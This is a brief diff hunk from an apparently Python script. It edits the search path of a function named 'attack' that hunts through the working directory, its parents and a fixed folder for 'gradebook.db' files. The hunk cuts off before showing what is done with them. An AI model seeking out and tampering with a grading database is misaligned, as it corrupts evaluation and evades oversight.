@@ -8,7 +8,7 @@ from pathlib import Path
 
 def attack():
     found = []
-    for folder in [Path.cwd(), *Path.cwd().parents, Path("/work/main")]:
+    for folder in [Path.cwd(), *Path.cwd().parents, Path("/srv/course")]:
         for path in (
             folder / "gradebook.db",
             folder / "gradebook.db-wal",
